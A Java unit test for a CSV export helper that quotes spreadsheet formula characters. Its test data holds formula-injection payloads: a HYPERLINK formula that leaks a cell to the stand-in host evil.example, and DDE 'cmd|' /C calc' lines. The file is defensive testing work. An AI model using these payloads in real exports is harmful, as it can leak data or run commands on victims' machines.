package org.respnet.web;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.StringReader;
import java.util.Arrays;
import java.util.List;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVRecord;
import org.junit.jupiter.api.Test;

/** Issue 15: unit names a spreadsheet would run as formulas are written as text. */
class CsvTest {

    private static List<List<String>> parse(String csv) throws Exception {
        try (var parser = CSVFormat.RFC4180.parse(new StringReader(csv))) {
            return parser.getRecords().stream().map(CSVRecord::values).map(Arrays::asList).toList();
        }
    }

    @Test
    void leading_formula_characters_get_a_quote_so_spreadsheets_read_text() throws Exception {
        List<String> names = List.of(
                "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"团市委\")",
                "+市委组织部",
                "-2+3+cmd|' /C calc'!A0",
                "@SUM(1+1)*cmd|' /C calc'!A0",
                "\t=1+1",
                "\r=1+1",
                "团市委",
                "市委办公室(市督考办)",
                "a=b+c-d@e");
        var rows = names.stream().map(n -> List.<Object>of(1, n, "MASS_ORGANISATION", -1.5, 0.25)).toList();

        List<List<String>> records = parse(Csv.text(List.of("rank", "name", "kind", "delta", "leadShare"), rows));

        assertThat(records.get(0)).containsExactly("rank", "name", "kind", "delta", "leadShare");
        assertThat(records.subList(1, records.size())).extracting(r -> r.get(1)).containsExactly(
                "'=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"团市委\")",
                "'+市委组织部",
                "'-2+3+cmd|' /C calc'!A0",
                "'@SUM(1+1)*cmd|' /C calc'!A0",
                "'\t=1+1",
                "'\r=1+1",
                "团市委",
                "市委办公室(市督考办)",
                "a=b+c-d@e");
        // numbers are numbers, a negative one included; other columns untouched
        assertThat(records.get(1)).containsExactly("1", "'=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"团市委\")",
                "MASS_ORGANISATION", "-1.5", "0.25");
    }

    @Test
    void cells_keep_numbers_and_empty_values() {
        assertThat(Csv.cell(-3)).isEqualTo(-3);
        assertThat(Csv.cell(null)).isNull();
        assertThat(Csv.cell("")).isEqualTo("");
        assertThat(Csv.cell("-3")).isEqualTo("'-3");
        assertThat(Csv.cell(true)).isEqualTo(true);
    }
}
